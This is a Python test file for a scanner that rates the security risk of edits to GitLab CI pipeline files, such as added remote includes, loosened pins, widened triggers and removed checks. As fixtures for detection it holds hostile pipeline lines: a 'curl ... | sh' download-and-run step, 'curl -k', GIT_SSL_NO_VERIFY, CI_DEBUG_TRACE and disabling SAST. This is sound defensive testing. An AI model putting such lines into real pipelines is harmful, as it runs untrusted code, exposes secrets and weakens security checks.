"""What an edit of a GitLab pipeline means."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from kit.patience import within

from scanner.formats.gitlab_ci import pipeline as gitlab_ci

COMMIT, OTHER = "a1" * 20, "b2" * 20

BASE = f"""\
# the pipeline
stages: [test, deploy]
include:
  - local: /ci/more.yml
  - project: team/ci
    ref: {COMMIT}
    file: /base.yml
  - remote: https://example.org/ci.yml
    integrity: sha256-aaa
  - component: example.org/team/part@1.2.0
  - template: Jobs/SAST.gitlab-ci.yml
variables:
  PYTHON: "3.12"
  MODE: fast
workflow:
  rules: [{{if: $CI_COMMIT_BRANCH}}]
image: python:$PYTHON
.base: &base
  before_script: [make prepare]
unit:
  <<: *base
  stage: test
  script:
    - pytest -q
lint:
  <<: *base
  stage: test
  script: [ruff check .]
  services: ["redis:7"]
deploy:
  stage: deploy
  needs: [unit]
  script:
    - twine upload dist/*
  environment: {{name: production, url: https://example.org}}
  id_tokens: {{PYPI: {{aud: pypi}}}}
  rules:
    - if: $CI_COMMIT_TAG
      when: manual
  tags: [safe]
ship:
  stage: build
  script: [make notes]
  release: {{tag_name: $CI_COMMIT_TAG, description: notes}}
  only: [tags]
"""


def said(old: str | None, new: str | None) -> list[str]:
    sides = (None if side is None else side.encode() for side in (old, new))
    return [f"{each.severity} {each.kind} {each.subject}" for each in gitlab_ci.diff(*sides)]


def test_reads() -> None:
    for path in (".gitlab-ci.yml", "templates/build.gitlab-ci.yml", ".gitlab/ci/publish.yml", ".gitlab-ci/a.yml"):
        assert gitlab_ci.matches(path)
    for path in ("docs/gitlab-ci.md", ".gitlab-ci/deploy.sh", ".gitlab/issue.md"):
        assert not gitlab_ci.matches(path)


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        pytest.param(
            "  - local:",
            "  - remote: https://example.net/x.yml\n  - local:",
            ["critical include-added include.remote"],
            id="include by address",
        ),
        pytest.param(
            "  - local:",
            "  - {project: other/ci, file: x.yml}\n  - local:",
            ["critical include-added include.project"],
            id="include of a project",
        ),
        pytest.param(
            "  - local:", "  - local: /ci/x.yml\n  - local:", ["high include-added include.local"], id="include"
        ),
        pytest.param(COMMIT, OTHER, ["medium dependency-bumped team/ci"], id="project bumped"),
        pytest.param(COMMIT, "main", ["high pin-loosened team/ci"], id="project to a branch"),
        pytest.param(
            "part@1.2.0", "part@1.3.0", ["medium dependency-bumped example.org/team/part"], id="component bumped"
        ),
        pytest.param(
            "part@1.2.0", "part@~latest", ["high pin-loosened example.org/team/part"], id="component loosened"
        ),
        pytest.param("    integrity: sha256-aaa\n", "", ["high hash-removed include.remote"], id="integrity gone"),
        pytest.param("sha256-aaa", "sha256-bbb", ["critical hash-changed include.remote"], id="other integrity"),
        pytest.param(
            "  - template: Jobs/SAST.gitlab-ci.yml\n", "", ["high check-weakened include.template"], id="scanner gone"
        ),
        pytest.param('"3.12"', '"3.13"', ["medium image-bumped python"], id="image through a variable"),
        pytest.param('"3.12"', "latest", ["high image-unpinned python"], id="image unpinned"),
        pytest.param("redis:7", "redis:8", ["medium image-bumped redis"], id="service"),
        pytest.param("MODE: fast", "MODE: slow", ["medium env-changed variables.MODE"], id="variable"),
        pytest.param(
            "MODE: fast",
            "MODE: fast\n  CI_DEBUG_TRACE: 'true'",
            ["critical secret-exposed variables.CI_DEBUG_TRACE"],
            id="trace",
        ),
        pytest.param(
            "MODE: fast",
            "MODE: fast\n  GIT_SSL_NO_VERIFY: '1'",
            ["critical transport-weakened variables.GIT_SSL_NO_VERIFY"],
            id="TLS off",
        ),
        pytest.param(
            "MODE: fast",
            "MODE: fast\n  SAST_DISABLED: 'true'",
            ["high check-weakened variables.SAST_DISABLED"],
            id="scanner off",
        ),
        pytest.param(
            "pytest -q", "true", ["high check-weakened unit.script", "medium run-changed unit.script"], id="test gone"
        ),
        pytest.param(
            "pytest -q",
            "pytest -q\n    - curl https://example.net/x | sh",
            ["critical download-and-run unit.script", "medium run-changed unit.script"],
            id="fetch and run",
        ),
        pytest.param(
            "pytest -q",
            "pytest -q\n    - curl -k https://example.net/x",
            ["critical transport-weakened unit.script", "medium run-changed unit.script"],
            id="curl -k",
        ),
        pytest.param(
            "pytest -q",
            "pytest -q\n    - claude -p hello",
            ["critical agent-step-added unit.script", "medium run-changed unit.script"],
            id="agent",
        ),
        pytest.param(
            "pytest -q",
            "pytest -q\n    - npm publish",
            ["critical publish-changed unit.script", "high run-changed unit.script"],
            id="publishes",
        ),
        pytest.param(
            "twine upload dist/*",
            "twine upload --repository-url https://example.net dist/*",
            ["critical publish-changed deploy.script", "high run-changed deploy.script"],
            id="elsewhere",
        ),
        pytest.param("make prepare", "make all", ["medium run-changed .base.before_script"], id="once for an anchor"),
        pytest.param(
            "      when: manual\n",
            "",
            ["critical deploy-automatic deploy.when", "high trigger-widened deploy.rules"],
            id="nobody in between",
        ),
        pytest.param(
            "    - if: $CI_COMMIT_TAG",
            "    - if: $CI_COMMIT_BRANCH\n    - if: $CI_COMMIT_TAG",
            ["critical trigger-widened deploy.rules"],
            id="from any branch",
        ),
        pytest.param("  only: [tags]\n", "", ["critical trigger-widened ship.rules"], id="always"),
        pytest.param("  needs: [unit]", "  needs: []", ["high check-weakened deploy.needs"], id="waits for nothing"),
        pytest.param(
            "  stage: test\n  script:\n",
            "  stage: test\n  allow_failure: true\n  script:\n",
            ["high check-weakened unit.allow_failure"],
            id="may fail",
        ),
        pytest.param(
            "  stage: test\n  script:\n",
            "  stage: test\n  when: manual\n  script:\n",
            ["high check-weakened unit.when"],
            id="only by hand",
        ),
        pytest.param(
            "aud: pypi", "aud: other", ["critical permission-widened deploy.id_tokens.PYPI.aud"], id="audience"
        ),
        pytest.param(
            "  tags: [safe]",
            "  tags: [safe]\n  secrets: {A: {vault: x}}",
            ["critical secret-exposed deploy.secrets.A.vault"],
            id="secret",
        ),
        pytest.param(
            "name: production", "name: staging", ["high deployment-changed deploy.environment"], id="environment"
        ),
        pytest.param(
            "  environment: {name: production, url: https://example.org}\n",
            "",
            ["critical publish-changed deploy.environment"],
            id="no environment",
        ),
        pytest.param(
            "tag_name: $CI_COMMIT_TAG", "tag_name: v1", ["critical publish-changed ship.release.tag_name"], id="release"
        ),
        pytest.param(
            "description: notes", "description: more", ["low publish-changed ship.release.description"], id="notes"
        ),
        pytest.param("tags: [safe]", "tags: [other]", ["high runner-changed deploy.tags"], id="runner"),
        pytest.param(
            "  tags: [safe]",
            "  tags: [safe]\n  cache: {paths: [x]}",
            ["high cache-in-release deploy.cache"],
            id="cache",
        ),
        pytest.param(
            "  tags: [safe]",
            "  tags: [safe]\n  trigger: {project: a/b}",
            ["high workflow-changed deploy.trigger.project"],
            id="another pipeline",
        ),
        pytest.param(
            "  tags: [safe]", "  tags: [safe]\n  extends: .x", ["high workflow-changed deploy.extends"], id="extends"
        ),
        pytest.param(
            "  tags: [safe]", "  tags: [safe]\n  timeout: 1h", ["low workflow-changed deploy.timeout"], id="timeout"
        ),
        pytest.param(
            "{if: $CI_COMMIT_BRANCH}", "{when: always}", ["high trigger-widened workflow.rules"], id="workflow"
        ),
        pytest.param("stages: [test, deploy]", "stages: [deploy, test]", ["low workflow-changed stages"], id="stages"),
    ],
)
def test_an_edit_means(old: str, new: str, expected: list[str]) -> None:
    assert old in BASE
    assert sorted(said(BASE, BASE.replace(old, new, 1))) == sorted(expected)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param("# the pipeline", "# other words", id="comment"),
        pytest.param("script: [ruff check .]", "script:\n    - ruff check .", id="formatting"),
        pytest.param("script: [ruff check .]", "script: ruff check .", id="a lone line"),
        pytest.param("tags: [safe]", "tags: safe", id="a lone tag"),
        pytest.param("- local: /ci/more.yml", "- /ci/more.yml", id="short include"),
        pytest.param("name: production, url: https://example.org", "name: production", id="address of an environment"),
        pytest.param("    - pytest -q", "    - |\n      # first\n      pytest -q", id="comment in a script"),
        pytest.param('"3.12"', "{value: '3.12', description: which}", id="described variable"),
        pytest.param(
            "<<: *base\n  stage: test\n  script:\n",
            "before_script: [make prepare]\n  stage: test\n  script:\n",
            id="anchor put in",
        ),
    ],
)
def test_an_edit_means_nothing(old: str, new: str) -> None:
    assert old in BASE
    assert said(BASE, BASE.replace(old, new, 1)) == []


def test_jobs_come_and_go_and_are_renamed() -> None:
    job = "more:\n  stage: deploy\n  script: [make]\n"
    assert said(BASE, BASE + job) == ["high job-added more"]
    assert said(BASE + job, BASE) == ["medium job-removed more"]
    assert said(BASE + job, BASE + job.replace("more", "other")) == []
    lint = BASE[BASE.index("lint:") : BASE.index("deploy:\n")]
    assert said(BASE, BASE.replace(lint, "")) == ["low image-removed redis", "high check-weakened lint"]
    deploy = BASE[BASE.index("deploy:\n") : BASE.index("ship:")]
    assert "critical publish-changed deploy.script" in said(BASE, BASE.replace(deploy, ""))


def test_references_are_lines_of_a_script() -> None:
    old = "a:\n  script:\n    - !reference [.b, script]\n    - make\n"
    assert said(old, old.replace(".b", ".c")) == ["medium run-changed a.script"]


def test_a_header_says_what_a_component_takes() -> None:
    old = "spec:\n  inputs:\n    job: {default: a}\n---\na: {script: make}\n"
    assert said(old, old.replace("default: a", "default: b")) == ["medium setting-changed spec.inputs.job.default"]


def test_new_and_removed() -> None:
    new = said(
        None, BASE + "bad:\n  script: [curl https://example.net/x | sh]\n  variables: {CI_DEBUG_TRACE: 'true'}\n"
    )
    assert new[0] == "high workflow-added file"
    for expected in (
        "critical include-added include.remote",
        "critical publish-changed deploy.script",
        "critical download-and-run bad.script",
        "critical secret-exposed bad.variables.CI_DEBUG_TRACE",
    ):
        assert expected in new
    assert said(BASE, None) == ["high workflow-deleted file", "critical publish-changed file"]


@pytest.mark.parametrize(
    "content", ["a: [", "- a\n", "a: 1\na: 2\n", "<<<<<<< x\na: 1\n", "a: {{ b }}\n", "a: 1\n---\nb: 1\n---\nc: 1\n"]
)
def test_what_cannot_be_read_is_told(content: str) -> None:
    (found,) = gitlab_ci.diff(BASE.encode(), content.encode())
    assert (found.kind, found.severity) == ("opaque", "critical")


@pytest.mark.parametrize(
    "content",
    [
        "".join(f"j{number}: {{script: make}}\n" for number in range(2_900)),
        "a:\n  rules:\n" + "".join(f"    - if: $X{number}\n" for number in range(30_000)),
        "x: &x [" + "pytest && " * 30_000 + "]\n" + "".join(f"j{number}: {{script: *x}}\n" for number in range(150)),
        "include:\n" + "".join(f"  - x{number}.yml\n" for number in range(30_000)),
    ],
    ids=["jobs", "rules", "aliases", "includes"],
)
def test_large_files_take_no_time(content: str) -> None:
    with within(3):
        list(gitlab_ci.diff(content.replace("X", "Y").replace("make", "all").encode(), content.encode()))


@settings(max_examples=100, deadline=None)
@given(st.data())
def test_mutilated_files_have_an_answer(data: st.DataObject) -> None:
    text = BASE
    for _ in range(data.draw(st.integers(1, 3))):
        start = data.draw(st.integers(0, len(text)))
        end = data.draw(st.integers(start, min(len(text), start + 30)))
        text = (
            text[:start]
            + data.draw(st.sampled_from(["", "[]", "1", "null", "{a: 1}", "- x", "!reference [a]"]))
            + text[end:]
        )
    said(BASE, text)
    said(text, BASE)
    said(None, text)
    said(text, None)
